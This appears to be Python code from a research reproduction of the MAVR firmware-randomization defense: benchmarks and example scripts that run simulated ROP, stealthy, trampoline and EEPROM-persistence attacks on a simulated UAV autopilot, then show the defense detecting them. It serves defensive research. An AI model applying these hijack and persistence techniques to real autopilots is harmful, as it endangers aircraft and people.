from repro.asm.linker import MAVR_OPTIONS, STOCK_OPTIONS
from repro.firmware import ALL_APPS, TESTAPP, build_app


@pytest.fixture(scope="session")
def paper_apps_mavr():
    """name -> image under the MAVR (randomizable) toolchain."""
    return {m.name: build_app(m, MAVR_OPTIONS) for m in ALL_APPS}


@pytest.fixture(scope="session")
def paper_apps_stock():
    """name -> image under the stock toolchain."""
    return {m.name: build_app(m, STOCK_OPTIONS) for m in ALL_APPS}


@pytest.fixture(scope="session")
def arduplane(paper_apps_mavr):
    return paper_apps_mavr["arduplane"]


@pytest.fixture(scope="session")
def testapp():
    return build_app(TESTAPP, MAVR_OPTIONS)
