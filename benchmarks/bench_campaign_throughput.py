"""Campaign throughput: the fleet-scale fast path, cold vs warm.

The workload is the paper's §VII-A guessing campaign expressed as
scenario specs — one freshly randomized protected board per attempt —
fanned out by :class:`repro.sim.CampaignRunner`.  Three measurements:

* **cold serial baseline** — no artifact cache, every scenario pays the
  toolchain build, the defense preprocess pass and the simulated ISP
  programming + boot, exactly as before the fast path existed;
* **warm runs at jobs ∈ {1, 2, 4}** — a priming pass publishes the
  build/deploy/board artifacts, then every job level re-runs the same
  specs against the shared cache root (the CI-rerun / resume / serve
  traffic shape);
* **per-scenario setup time** — the ``build+preprocess+program+boot``
  host milliseconds from the phase attribution, cold vs warm.

Asserted floors:

* warm setup beats cold setup by >= ``WARM_SETUP_FLOOR`` (5x) per
  scenario — enforced everywhere, including single-core boxes;
* 4 warm jobs beat 1 warm job by >= ``SPEEDUP_FLOOR`` (2.5x)
  wall-clock — enforced only with >= 2 usable cores (CI runners);
* the JSONL bytes are identical across cold/warm and serial/parallel,
  so neither speedup is ever bought with a determinism regression.

Results land in ``BENCH_campaign_throughput.json`` at the repo root.

Run:  PYTHONPATH=src python -m pytest benchmarks/bench_campaign_throughput.py -q -s
Scale with REPRO_BENCH_SCENARIOS (default 8).
"""

import json
import os
import time
from pathlib import Path

from repro.sim import CampaignRunner, ScenarioSpec, derive_seed

RESULTS_PATH = (
    Path(__file__).resolve().parent.parent / "BENCH_campaign_throughput.json"
)
JOB_LEVELS = (1, 2, 4)
#: 4 warm jobs vs 1 warm job, wall-clock (enforced with >= 2 cores)
SPEEDUP_FLOOR = 2.5
#: cold vs warm per-scenario setup host time (always enforced)
WARM_SETUP_FLOOR = 5.0
SETUP_PHASES = ("build", "preprocess", "program", "boot")
BASE_SEED = 2024


def _scenario_count() -> int:
    return int(os.environ.get("REPRO_BENCH_SCENARIOS", "8"))


def _usable_cores() -> int:
    try:
        return len(os.sched_getaffinity(0))
    except AttributeError:  # non-Linux fallback
        return os.cpu_count() or 1


def _specs(count):
    return [
        ScenarioSpec(
            app="testapp",
            seed=derive_seed(BASE_SEED, index, "board"),
            attack="guess",
            attack_seed=derive_seed(BASE_SEED, index, "attack"),
            label=f"bench-{index}",
        )
        for index in range(count)
    ]


def _setup_ms(report) -> float:
    return sum(
        report.phases[name]["host_ms"]
        for name in SETUP_PHASES if name in report.phases
    )


def test_campaign_throughput(benchmark, tmp_path):
    count = _scenario_count()
    specs = _specs(count)
    cores = _usable_cores()
    cache_dir = tmp_path / "artifact-cache"

    # cold serial baseline: the pre-fast-path cost, straight off the specs
    cold_path = tmp_path / "cold.jsonl"
    start = time.perf_counter()
    cold = CampaignRunner(jobs=1, jsonl_path=cold_path).run(specs)
    cold_wall = time.perf_counter() - start
    assert cold.aggregates["errors"] == 0

    # priming pass publishes build/deploy/board artifacts to the shared root
    prime_path = tmp_path / "prime.jsonl"
    start = time.perf_counter()
    prime = CampaignRunner(
        jobs=1, jsonl_path=prime_path, cache_dir=cache_dir
    ).run(specs)
    prime_wall = time.perf_counter() - start
    assert prime.aggregates == cold.aggregates

    # warm runs: every job level replays the same specs against the cache
    wall, rate, reports = {}, {}, {}
    for jobs in JOB_LEVELS:
        jsonl = tmp_path / f"warm-{jobs}.jsonl"
        runner = CampaignRunner(jobs=jobs, jsonl_path=jsonl, cache_dir=cache_dir)
        start = time.perf_counter()
        report = runner.run(specs)
        wall[jobs] = time.perf_counter() - start
        rate[jobs] = count / wall[jobs]
        reports[jobs] = report
        assert report.aggregates["errors"] == 0
        # neither speedup is bought with nondeterminism: cold vs warm and
        # serial vs parallel emit byte-identical JSONL
        assert jsonl.read_bytes() == cold_path.read_bytes(), (
            f"warm jobs={jobs} JSONL diverged from the cold serial baseline"
        )
    assert prime_path.read_bytes() == cold_path.read_bytes()

    cold_setup = _setup_ms(cold) / count
    warm_setup = _setup_ms(reports[1]) / count
    setup_speedup = cold_setup / warm_setup if warm_setup else float("inf")
    speedup_at_4 = wall[1] / wall[4]

    results = {
        "scenarios": count,
        "usable_cores": cores,
        "wall_s": {
            "cold_serial": round(cold_wall, 3),
            "prime_serial": round(prime_wall, 3),
            **{f"warm_{j}": round(wall[j], 3) for j in JOB_LEVELS},
        },
        "scenarios_per_second": {
            "cold_serial": round(count / cold_wall, 3),
            **{f"warm_{j}": round(rate[j], 3) for j in JOB_LEVELS},
        },
        "warm_speedup_vs_serial": {
            str(j): round(wall[1] / wall[j], 3) for j in JOB_LEVELS
        },
        "setup_ms_per_scenario": {
            "cold": round(cold_setup, 3),
            "warm": round(warm_setup, 3),
            "speedup": round(setup_speedup, 1),
        },
        "jsonl_identity": {"cold_vs_warm": True, "serial_vs_parallel": True},
        "floors": {
            "speedup_at_4_jobs": SPEEDUP_FLOOR,
            "parallel_enforced": cores >= 2,
            "warm_setup_speedup": WARM_SETUP_FLOOR,
            "warm_setup_enforced": True,
        },
    }

    # pytest-benchmark row: one warm scenario batch
    benchmark.pedantic(
        lambda: CampaignRunner(jobs=1, cache_dir=cache_dir).run(specs[:1]),
        rounds=1, iterations=1,
    )

    RESULTS_PATH.write_text(json.dumps(results, indent=2) + "\n")
    print(f"\n{'run':>12} {'wall':>9} {'scen/s':>8} {'speedup':>8}")
    print(f"{'cold serial':>12} {cold_wall:>8.2f}s {count / cold_wall:>8.2f} {'':>8}")
    for jobs in JOB_LEVELS:
        print(f"{f'warm x{jobs}':>12} {wall[jobs]:>8.2f}s {rate[jobs]:>8.2f} "
              f"{wall[1] / wall[jobs]:>7.2f}x")
    print(f"setup/scenario: cold {cold_setup:.1f} ms, warm {warm_setup:.2f} ms "
          f"({setup_speedup:.0f}x); usable cores: {cores}; "
          f"results written to {RESULTS_PATH}")

    assert setup_speedup >= WARM_SETUP_FLOOR, (
        f"warm setup only {setup_speedup:.1f}x faster than cold per scenario; "
        f"the floor is {WARM_SETUP_FLOOR}x"
    )
    if cores >= 2:
        assert speedup_at_4 >= SPEEDUP_FLOOR, (
            f"4 jobs only {speedup_at_4:.2f}x faster than serial on "
            f"{cores} cores; the floor is {SPEEDUP_FLOOR}x"
        )
    else:
        print(f"single-core machine: {SPEEDUP_FLOOR}x parallel floor "
              f"recorded, not enforced (speedup {speedup_at_4:.2f}x)")
