"""Campaign throughput: scenarios/sec at jobs ∈ {1, 2, 4}.

The workload is the paper's §VII-A guessing campaign expressed as
scenario specs — one freshly randomized protected board per attempt —
fanned out by :class:`repro.sim.CampaignRunner`.  Scenarios are
CPU-bound and independent, so throughput should scale with workers until
the machine runs out of cores.

Asserted floor: 4 jobs beat 1 job by >=1.5x wall-clock — only enforced
when the machine actually has >=2 usable cores (the CI runners do; a
single-core box records the numbers without asserting).  The aggregates
are also asserted bit-identical across all job counts, so the speedup is
never bought with a determinism regression.

Results land in ``BENCH_campaign_throughput.json`` at the repo root.

Run:  PYTHONPATH=src python -m pytest benchmarks/bench_campaign_throughput.py -q -s
Scale with REPRO_BENCH_SCENARIOS (default 8).
"""

import json
import os
import time
from pathlib import Path

from repro.sim import CampaignRunner, ScenarioSpec, derive_seed

RESULTS_PATH = (
    Path(__file__).resolve().parent.parent / "BENCH_campaign_throughput.json"
)
JOB_LEVELS = (1, 2, 4)
SPEEDUP_FLOOR = 1.5
BASE_SEED = 2024


def _scenario_count() -> int:
    return int(os.environ.get("REPRO_BENCH_SCENARIOS", "8"))


def _usable_cores() -> int:
    try:
        return len(os.sched_getaffinity(0))
    except AttributeError:  # non-Linux fallback
        return os.cpu_count() or 1


def _specs(count):
    return [
        ScenarioSpec(
            app="testapp",
            seed=derive_seed(BASE_SEED, index, "board"),
            attack="guess",
            attack_seed=derive_seed(BASE_SEED, index, "attack"),
            label=f"bench-{index}",
        )
        for index in range(count)
    ]


def test_campaign_throughput(benchmark):
    count = _scenario_count()
    specs = _specs(count)
    cores = _usable_cores()

    wall, rate, aggregates = {}, {}, {}
    for jobs in JOB_LEVELS:
        runner = CampaignRunner(jobs=jobs)
        start = time.perf_counter()
        report = runner.run(specs)
        elapsed = time.perf_counter() - start
        wall[jobs] = elapsed
        rate[jobs] = count / elapsed
        aggregates[jobs] = report.aggregates
        assert report.aggregates["errors"] == 0

    # the parallel speedup must never be bought with nondeterminism
    for jobs in JOB_LEVELS[1:]:
        assert aggregates[jobs] == aggregates[1], (
            f"aggregates diverged between jobs=1 and jobs={jobs}"
        )

    speedup_at_4 = wall[1] / wall[4]
    results = {
        "scenarios": count,
        "usable_cores": cores,
        "wall_s": {str(j): round(wall[j], 3) for j in JOB_LEVELS},
        "scenarios_per_second": {str(j): round(rate[j], 3) for j in JOB_LEVELS},
        "speedup_vs_serial": {
            str(j): round(wall[1] / wall[j], 3) for j in JOB_LEVELS
        },
        "floor": {
            "speedup_at_4_jobs": SPEEDUP_FLOOR,
            "enforced": cores >= 2,
        },
    }

    # pytest-benchmark row: one serial scenario batch
    benchmark.pedantic(
        lambda: CampaignRunner(jobs=1).run(specs[:1]), rounds=1, iterations=1
    )

    RESULTS_PATH.write_text(json.dumps(results, indent=2) + "\n")
    print(f"\n{'jobs':>4} {'wall':>9} {'scen/s':>8} {'speedup':>8}")
    for jobs in JOB_LEVELS:
        print(f"{jobs:>4} {wall[jobs]:>8.2f}s {rate[jobs]:>8.2f} "
              f"{wall[1] / wall[jobs]:>7.2f}x")
    print(f"usable cores: {cores}; results written to {RESULTS_PATH}")

    if cores >= 2:
        assert speedup_at_4 >= SPEEDUP_FLOOR, (
            f"4 jobs only {speedup_at_4:.2f}x faster than serial on "
            f"{cores} cores; the floor is {SPEEDUP_FLOOR}x"
        )
    else:
        print(f"single-core machine: {SPEEDUP_FLOOR}x floor recorded, "
              f"not enforced (speedup {speedup_at_4:.2f}x)")
