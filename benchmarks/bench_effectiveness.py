"""§VII-A — effectiveness of attacks and of the MAVR defense.

The paper's experiment: craft stealthy attacks against the unprotected
binary (all succeed), then randomize with MAVR and replay them (none
succeed; the board executes garbage; MAVR detects it and reflashes).

We run the full matrix on the fast test application and report success /
stealth / detection per cell, plus gadget-survival statistics across many
randomizations.
"""

import random

from repro.analysis import (
    attack_survival_rate,
    format_table,
    mean_survival_fraction,
    measure_survival,
)
from repro.attack import (
    BasicAttack,
    StealthyAttack,
    TrampolineAttack,
    Write3,
    deliver,
    variable_address,
)
from repro.core import MavrSystem
from repro.mavlink.messages import PARAM_SET
from repro.uav import Autopilot, MaliciousGroundStation


def run_attack_matrix(testapp):
    """(attack, protected?) -> outcome summary dict."""
    results = {}

    # unprotected rows
    results["v1/unprotected"] = BasicAttack(testapp).execute(Autopilot(testapp))
    results["v2/unprotected"] = StealthyAttack(testapp).execute(Autopilot(testapp))
    results["v3/unprotected"] = TrampolineAttack(testapp).execute(Autopilot(testapp))

    # protected rows: replay the V2 exploit against a MAVR system
    system = MavrSystem(testapp, seed=31337)
    system.boot()
    system.run(10)
    attack = StealthyAttack(testapp)
    station = MaliciousGroundStation()
    target = variable_address(testapp, "gyro_offset")
    burst = station.exploit_burst(
        PARAM_SET.msg_id, attack.attack_bytes([Write3(target, b"\x40\x00\x00")])
    )
    system.autopilot.receive_bytes(burst)
    system.run(150, watch_every=5)
    results["v2-replay/mavr"] = system.report()
    results["_gyro_after_mavr"] = system.autopilot.read_variable("gyro_offset")
    return results


def test_attack_effectiveness_matrix(benchmark, testapp):
    results = benchmark.pedantic(
        run_attack_matrix, args=(testapp,), rounds=1, iterations=1
    )
    v1, v2, v3 = (
        results["v1/unprotected"],
        results["v2/unprotected"],
        results["v3/unprotected"],
    )
    mavr = results["v2-replay/mavr"]

    # unprotected: every variant lands its write
    assert v1.succeeded and v2.succeeded and v3.succeeded
    # V1 is detectable, V2/V3 are stealthy — the paper's core distinction
    assert not v1.stealthy and v1.link_lost
    assert v2.stealthy and v3.stealthy
    # protected: no effect, and the failed attempt was detected + reflashed
    assert results["_gyro_after_mavr"] == 0
    assert mavr.attacks_detected >= 1
    assert mavr.randomizations >= 2

    rows = [
        ("V1 basic", "unprotected", "yes", "no (crash, link lost)"),
        ("V2 stealthy", "unprotected", "yes", "yes"),
        ("V3 trampoline", "unprotected", "yes", "yes"),
        ("V2 replay", "MAVR", "no", "n/a (detected, reflashed)"),
    ]
    print()
    print(format_table(
        ("attack", "target", "write landed", "stealthy"),
        rows,
        title="§VII-A effectiveness matrix",
    ))
    print(
        f"MAVR report: detections={mavr.attacks_detected} "
        f"randomizations={mavr.randomizations} "
        f"flash cycles used={mavr.flash_cycles_used}"
    )


def test_gadget_survival_under_randomization(benchmark, testapp):
    """No previously harvested gadget address survives a shuffle (in
    expectation); the paper's two-gadget payload in particular dies."""
    samples = benchmark.pedantic(
        measure_survival,
        args=(testapp,),
        kwargs={"trials": 8, "rng": random.Random(0), "probe_limit": 80},
        rounds=1, iterations=1,
    )
    fraction = mean_survival_fraction(samples)
    pair_rate = attack_survival_rate(samples)
    assert fraction < 0.2
    assert pair_rate < 0.5
    print(
        f"\ngadget-address survival over {len(samples)} shuffles: "
        f"{fraction:.1%}; stealthy-attack pair survival: {pair_rate:.1%}"
    )
