#!/usr/bin/env python3
"""A persistent attacker vs three defense postures.

Pits the same layout-guessing attacker against:

1. **No defense** — the unprotected binary: first shot wins, silently.
2. **Software-only randomization** (§VIII-A) — one permutation forever:
   every failure leaks, nothing on board recovers a crashed processor.
3. **MAVR** — re-randomize on every detected failure: the attacker's
   knowledge resets each round, the UAV never stops flying, and the only
   budget consumed is flash write cycles.

Also runs the *oracle* falsification: an attacker who somehow knows the
live layout (the situation the readout fuse exists to prevent) still
succeeds — proving the defense is secrecy, not breakage.

Run:  python examples/bruteforce_campaign.py
"""

from repro.analysis import (
    estimate_for,
    format_table,
    guessing_campaign,
    oracle_attack,
)
from repro.attack import StealthyAttack, Write3, variable_address
from repro.core import SoftwareOnlyDefense
from repro.firmware import build_testapp
from repro.mavlink.messages import PARAM_SET
from repro.uav import Autopilot, MaliciousGroundStation


def main() -> None:
    image = build_testapp()
    station = MaliciousGroundStation()
    target = variable_address(image, "gyro_offset")
    exploit = StealthyAttack(image)
    burst = station.exploit_burst(
        PARAM_SET.msg_id, exploit.attack_bytes([Write3(target, b"\x40\x00\x00")])
    )

    print("posture 1: no defense")
    uav = Autopilot(image)
    outcome = StealthyAttack(image).execute(uav)
    print(f"  first attempt: landed={outcome.succeeded} "
          f"stealthy={outcome.stealthy}\n")

    print("posture 2: software-only randomization (one permutation forever)")
    sw = SoftwareOnlyDefense(image, seed=3)
    sw.run(10)
    sw.autopilot.receive_bytes(burst)
    status = sw.run(200)
    print(f"  replayed exploit: effect="
          f"{sw.autopilot.read_variable('gyro_offset') != 0} "
          f"board={status.value}")
    print("  recovery options in flight: none (no master to pulse reset)")
    sw.power_cycle()
    print("  after a ground power-cycle the layout is UNCHANGED — every "
          "failure the attacker observed stays useful\n")

    print("posture 3: MAVR")
    result = guessing_campaign(image, attempts=4, seed=11)
    rows = [
        ("guess attempts", result.attempts),
        ("exploit effects", result.effects),
        ("failures detected", result.detections),
        ("layouts rotated", result.randomizations_consumed),
        ("UAV still flying", result.still_flying),
    ]
    print(format_table(("metric", "value"), rows))

    print("\nfalsification: oracle attacker (knows the live layout)")
    print(f"  oracle succeeds: {oracle_attack(image, seed=5)} — "
          "randomized firmware is fully exploitable if the layout leaks,")
    print("  which is exactly why the readout-protection fuse matters")

    plane = estimate_for(917)
    print(f"\nexpected guesses at ArduPlane scale: ~10^{plane.log10_layouts:.0f}")


if __name__ == "__main__":
    main()
