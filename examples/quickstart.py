#!/usr/bin/env python3
"""Quickstart: the whole paper in ~60 lines.

Builds a vulnerable autopilot firmware, hijacks it stealthily through a
MAVLink buffer overflow, then puts the same firmware behind MAVR and shows
the identical exploit failing and being detected.

Run:  python examples/quickstart.py
"""

from repro.attack import StealthyAttack, Write3, variable_address
from repro.core import MavrSystem
from repro.firmware import build_testapp
from repro.mavlink.messages import PARAM_SET
from repro.uav import Autopilot, MaliciousGroundStation


def main() -> None:
    # 1. build a vulnerable autopilot application (MAVR toolchain flags,
    #    MAVLink length check disabled — the paper's injected bug)
    image = build_testapp()
    print(f"firmware: {image.name}, {image.size} bytes, "
          f"{image.function_count()} functions")

    # 2. stealthy attack (V2) against the unprotected board
    uav = Autopilot(image)
    outcome = StealthyAttack(image).execute(uav, values=b"\x40\x00\x00")
    print("\n--- unprotected board ---")
    print(f"attack landed:        {outcome.succeeded}")
    print(f"board still running:  {outcome.status.value == 'running'}")
    print(f"ground station alarm: {outcome.link_lost}")
    print(f"gyro calibration now: 0x{uav.read_variable('gyro_offset'):x} "
          "(attacker-chosen)")

    # 3. the same firmware protected by MAVR
    protected = MavrSystem(image, seed=2015)
    overhead_ms = protected.boot()  # randomize + reprogram the app CPU
    print("\n--- MAVR-protected board ---")
    print(f"startup overhead: {overhead_ms:.0f} ms "
          "(randomize + serial transfer)")

    # replay the very same exploit bytes
    attack = StealthyAttack(image)  # attacker only has the *original* binary
    station = MaliciousGroundStation()
    target = variable_address(image, "gyro_offset")
    burst = station.exploit_burst(
        PARAM_SET.msg_id, attack.attack_bytes([Write3(target, b"\x40\x00\x00")])
    )
    protected.run(10)
    protected.autopilot.receive_bytes(burst)
    protected.run(150, watch_every=5)

    report = protected.report()
    print(f"attack effect:        "
          f"0x{protected.autopilot.read_variable('gyro_offset'):x} (unchanged)")
    print(f"failed attempt detected: {report.attacks_detected >= 1}")
    print(f"re-randomizations:    {report.randomizations - 1}")
    print(f"board flying:         "
          f"{protected.autopilot.status.value == 'running'}")
    print(f"hardware cost:        +${report.cost['extra_usd']} "
          f"({report.cost['increase_pct']}% of the board)")


if __name__ == "__main__":
    main()
