#!/usr/bin/env python3
"""Silently steering a UAV off its mission (the paper's motivating threat).

Flies the same waypoint mission twice: once clean, once with a stealthy
V2 attack corrupting the gyro calibration mid-flight.  The corrupted
calibration biases the control loop, the airframe drifts off track — and
the ground station's link monitor never alarms, because telemetry keeps
flowing (it just reports the attacker-biased rotation as if it were real).

Run:  python examples/mission_hijack.py
"""

from repro.attack import StealthyAttack
from repro.firmware import build_testapp
from repro.uav import Autopilot, GroundStation, Mission, Waypoint, track_deviation


def fly(image, attack_at_tick=None, ticks=400):
    """Fly the mission; optionally deliver the attack mid-flight."""
    uav = Autopilot(image)
    gcs = GroundStation()
    mission = Mission([Waypoint(0, 60), Waypoint(0, 120), Waypoint(0, 500)])
    attack = StealthyAttack(image) if attack_at_tick is not None else None

    for tick in range(ticks):
        if attack is not None and tick == attack_at_tick:
            outcome = attack.execute(
                uav, values=b"\x60\x00\x00", observe_ticks=0
            )
            assert outcome.succeeded
        uav.tick()
        gcs.ingest(uav.transmitted_bytes())
        state = uav.flight.state
        mission.update(state.x, state.y)
    return uav, gcs, mission


def main() -> None:
    image = build_testapp()

    print("flying the reference mission (clean firmware)...")
    clean_uav, clean_gcs, clean_mission = fly(image)

    print("flying again with a mid-flight stealthy attack...")
    hit_uav, hit_gcs, hit_mission = fly(image, attack_at_tick=120)

    stats = track_deviation(clean_uav.flight.track, hit_uav.flight.track)
    print(f"\n{'':24}{'clean':>12}{'attacked':>12}")
    print(f"{'waypoints reached':<24}{clean_mission.current_index:>12}"
          f"{hit_mission.current_index:>12}")
    print(f"{'final position x (m)':<24}{clean_uav.flight.state.x:>12.1f}"
          f"{hit_uav.flight.state.x:>12.1f}")
    print(f"{'final position y (m)':<24}{clean_uav.flight.state.y:>12.1f}"
          f"{hit_uav.flight.state.y:>12.1f}")
    print(f"{'telemetry frames':<24}{clean_gcs.health.frames_received:>12}"
          f"{hit_gcs.health.frames_received:>12}")
    print(f"{'link-lost alarms':<24}{str(clean_gcs.link_lost):>12}"
          f"{str(hit_gcs.link_lost):>12}")
    print(f"\nmean track deviation: {stats['mean']:.1f} m, "
          f"final: {stats['final']:.1f} m")
    print("the operator's screen showed a healthy link the whole time —")
    print("that is the paper's 'stealthy attack' in one picture")


if __name__ == "__main__":
    main()
