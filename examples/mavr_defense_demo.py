#!/usr/bin/env python3
"""MAVR defense lifecycle end to end (paper §V-§VI).

Walks the full pipeline: host-side preprocessing, deployment to the
external flash, boot-time randomization + reprogramming, watchdog
monitoring, a brute-forcing attacker being absorbed by re-randomization,
and the flash-wear budget the policy trades against.

Run:  python examples/mavr_defense_demo.py
"""

import random

from repro.analysis import format_table, permutation_entropy_bits
from repro.attack import StealthyAttack, Write3, variable_address
from repro.core import (
    MavrSystem,
    RandomizationPolicy,
    preprocess_report,
    randomize_image,
)
from repro.errors import FuseViolationError
from repro.firmware import build_testapp
from repro.mavlink.messages import PARAM_SET
from repro.uav import MaliciousGroundStation


def banner(text: str) -> None:
    print(f"\n{'=' * 64}\n{text}\n{'=' * 64}")


def main() -> None:
    image = build_testapp()

    banner("host phase: preprocessing")
    report = preprocess_report(image)
    print(f"  functions identified:   {report.function_count}")
    print(f"  funcptr slots found:    {report.funcptr_slots}")
    print(f"  layout entropy:         "
          f"{permutation_entropy_bits(report.function_count):.0f} bits")

    banner("one randomization, dissected")
    randomized, permutation = randomize_image(image, random.Random(99))
    moved = sum(1 for m in permutation.moves if m.old_address != m.new_address)
    print(f"  blocks shuffled:        {moved}/{len(permutation.moves)}")
    example = permutation.move_for("mavlink_handle_rx")
    print(f"  e.g. mavlink_handle_rx: 0x{example.old_address:05x} -> "
          f"0x{example.new_address:05x}")
    print(f"  image size unchanged:   {randomized.size == image.size}")

    banner("boot + flight under master supervision")
    system = MavrSystem(image, seed=4)
    overhead = system.boot()
    print(f"  startup overhead:       {overhead:.0f} ms")
    system.run(30)
    print(f"  feed toggles observed:  {len(system.autopilot.feed.events)}")
    print(f"  watchdog period (cyc):  "
          f"{system.master.monitor.observed_period():.0f}")

    banner("readout protection")
    try:
        system.protected_flash.external_read(0, 64)
    except FuseViolationError as exc:
        print(f"  debugger dump attempt:  DENIED ({exc})")

    banner("a persistent attacker vs re-randomization")
    attack = StealthyAttack(image)
    station = MaliciousGroundStation()
    target = variable_address(image, "gyro_offset")
    burst = station.exploit_burst(
        PARAM_SET.msg_id, attack.attack_bytes([Write3(target, b"\x40\x00\x00")])
    )
    for attempt in range(1, 4):
        system.autopilot.receive_bytes(burst)
        system.run(150, watch_every=5)
        stats = system.report()
        print(f"  attempt {attempt}: gyro=0x"
              f"{system.autopilot.read_variable('gyro_offset'):x}  "
              f"detected so far={stats.attacks_detected}  "
              f"layouts burned={stats.randomizations}")

    banner("the §V-C tradeoff: frequency vs flash lifetime")
    rows = []
    for every in (1, 5, 10):
        policy = RandomizationPolicy(every)
        rows.append((
            f"every {every} boot(s)",
            policy.flash_lifetime_boots(),
            f"{policy.flash_lifetime_days(boots_per_day=4):.0f} days",
        ))
    print(format_table(("policy", "boots to wear-out", "@4 boots/day"), rows))
    final = system.report()
    print(f"\n  this session used {final.flash_cycles_used} of "
          f"{final.flash_cycles_used + final.flash_cycles_remaining} cycles")


if __name__ == "__main__":
    main()
