#!/usr/bin/env python3
"""V4: making a stealthy compromise permanent (extension experiment).

The paper's attacks corrupt RAM; a reboot heals them.  This demo shows the
same two gadgets programming the *EEPROM* through its memory-mapped
controller registers, planting a forged calibration block that the
firmware's own config loader faithfully restores on every boot — through
resets and even a clean reflash of the firmware.

Run:  python examples/persistence_attack.py
"""

from repro.attack import PersistenceAttack
from repro.firmware import build_testapp
from repro.firmware.hwmap import CONFIG_EEPROM_ADDR
from repro.uav import Autopilot, GroundStation


def telemetry_snapshot(uav, gcs, ticks=10):
    for _ in range(ticks):
        uav.tick()
        gcs.ingest(uav.transmitted_bytes())
    frame = gcs.last_frame
    return frame.gyro_x if frame else None


def main() -> None:
    image = build_testapp()
    uav = Autopilot(image)
    gcs = GroundStation()

    print("phase 1: normal flight")
    print(f"  telemetry gyro_x: {telemetry_snapshot(uav, gcs)}")

    print("\nphase 2: stealthy EEPROM-programming attack (V3 trampoline)")
    calibration = b"\x40\x00\x80\x00\xc0\x00"
    outcome = PersistenceAttack(image).execute(uav, calibration=calibration)
    block = bytes(uav.cpu.eeprom.read(CONFIG_EEPROM_ADDR + i) for i in range(7))
    print(f"  attack stealthy:        {outcome.stealthy}")
    print(f"  EEPROM config planted:  {block.hex()}")
    print(f"  SRAM calibration now:   0x{uav.read_variable('gyro_offset'):x} "
          "(unchanged — nothing visible yet)")
    print(f"  telemetry gyro_x:       {telemetry_snapshot(uav, gcs)} "
          "(still clean)")

    print("\nphase 3: the next boot loads the forged calibration")
    uav.reset()
    uav.run_ticks(5)
    print(f"  SRAM calibration:       0x{uav.read_variable('gyro_offset'):x}")
    print(f"  telemetry gyro_x:       {telemetry_snapshot(uav, gcs)} "
          "(biased from now on)")

    print("\nphase 4: even a clean firmware reflash does not help")
    uav.reflash(image)
    uav.run_ticks(5)
    print(f"  SRAM calibration:       0x{uav.read_variable('gyro_offset'):x}")
    print("\ntakeaway: MAVR's reflash covers program flash; persistent")
    print("configuration is a separate surface — randomization prevents the")
    print("exploit from *running* on a protected board, but one successful")
    print("exploitation of an unprotected board outlives every reboot")


if __name__ == "__main__":
    main()
