#!/usr/bin/env python3
"""The three attack variants side by side (paper §IV), plus Fig. 6.

* V1 — basic ROP: the write lands but the smashed stack kills the board
  and the ground station sees the link die.
* V2 — stealthy: same write, clean return, telemetry never blinks.
* V3 — trampoline: a payload far bigger than the buffer, staged three
  bytes per clean-return round, then executed — still undetected.

Finishes with the paper's Fig. 6: the stack captured at each stage of the
stealthy attack.

Run:  python examples/stealthy_attack_demo.py
"""

from repro.attack import (
    BasicAttack,
    GadgetFinder,
    StealthyAttack,
    TrampolineAttack,
    trace_stealthy_attack,
)
from repro.asm import disassemble
from repro.firmware import build_testapp
from repro.uav import Autopilot


def banner(text: str) -> None:
    print(f"\n{'=' * 64}\n{text}\n{'=' * 64}")


def describe(outcome) -> None:
    print(f"  write landed:          {outcome.succeeded}")
    print(f"  board status:          {outcome.status.value}")
    print(f"  telemetry after:       {outcome.telemetry_frames_after} frames")
    print(f"  ground station alarm:  {outcome.link_lost}")
    print(f"  verdict:               "
          f"{'STEALTHY' if outcome.stealthy else 'DETECTED'}")


def main() -> None:
    image = build_testapp()

    banner("gadget inventory (the attacker's static analysis)")
    finder = GadgetFinder(image)
    print(f"  gadgets ending in ret: {finder.count()}")
    stk = finder.find_stk_move()
    wm = finder.find_write_mem()
    print(f"\n  Gadget 1: stk_move at 0x{stk.entry:05x} (Fig. 4)")
    for line in disassemble(image.code, stk.entry, stk.entry + 14):
        print("   ", line)
    print(f"\n  Gadget 2: write_mem_gadget at 0x{wm.std_entry:05x} (Fig. 5)")
    for line in disassemble(image.code, wm.std_entry, wm.std_entry + 16):
        print("   ", line)
    print("    ... pop chain continues to r4, then ret")

    banner("V1: basic ROP attack — effective but loud")
    describe(BasicAttack(image).execute(Autopilot(image), values=b"\x11\x22\x33"))

    banner("V2: stealthy attack — clean return")
    uav = Autopilot(image)
    describe(StealthyAttack(image).execute(uav, values=b"\x40\x00\x00"))
    print(f"  gyro calibration now:  0x{uav.read_variable('gyro_offset'):x}")

    banner("V3: trampoline — arbitrarily large payload")
    uav3 = Autopilot(image)
    attack3 = TrampolineAttack(image)
    rounds = attack3.all_rounds(attack3.demo_payload())
    print(f"  staging rounds needed: {len(rounds) - 1} "
          "(each a complete clean-return attack)")
    describe(attack3.execute(uav3))
    marker = uav3.cpu.data.read_block(uav3.variable_address("accel_value"), 12)
    print(f"  18-byte payload planted, marker: {marker!r}")

    banner("Fig. 6: stack progression during the stealthy attack")
    trace = trace_stealthy_attack(image)
    print(trace.render())


if __name__ == "__main__":
    main()
