"""UAV simulation: autopilot harness, sensors, flight model, ground station."""

from .autopilot import Autopilot, AutopilotStatus, CrashInfo
from .flight import FlightModel, FlightState, GYRO_UNITS_PER_DEG_S, SERVO_NEUTRAL
from .groundstation import (
    ANOMALY_KINDS,
    GcsAnomalyDetector,
    GroundStation,
    LinkHealth,
    MaliciousGroundStation,
    TelemetryFrame,
)
from .mission import Mission, Waypoint, track_deviation
from .sensors import SensorState, SensorSuite

__all__ = [
    "Autopilot",
    "AutopilotStatus",
    "CrashInfo",
    "FlightModel",
    "FlightState",
    "GYRO_UNITS_PER_DEG_S",
    "SERVO_NEUTRAL",
    "ANOMALY_KINDS",
    "GcsAnomalyDetector",
    "GroundStation",
    "LinkHealth",
    "MaliciousGroundStation",
    "TelemetryFrame",
    "Mission",
    "Waypoint",
    "track_deviation",
    "SensorState",
    "SensorSuite",
]
