"""Sensor models wired into the AVR data space.

The APM 2.5 carries a 3-axis gyroscope, accelerometer, magnetometer and a
barometer (paper §II-A).  Each appears to the firmware as a pair of
extended-I/O registers (little-endian int16) that the ``sensors_read``
routine samples with ``lds`` — mirroring how sensor values end up "recorded
in the data address space" where the paper's attack overwrites them.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict

from ..avr.cpu import AvrCpu
from ..firmware.hwmap import (
    ACCEL_X_REG,
    ACCEL_Y_REG,
    ACCEL_Z_REG,
    BARO_REG,
    GYRO_X_REG,
    GYRO_Y_REG,
    GYRO_Z_REG,
    MAG_REG,
)


def _to_int16(value: float) -> int:
    clamped = max(-32768, min(32767, int(round(value))))
    return clamped & 0xFFFF


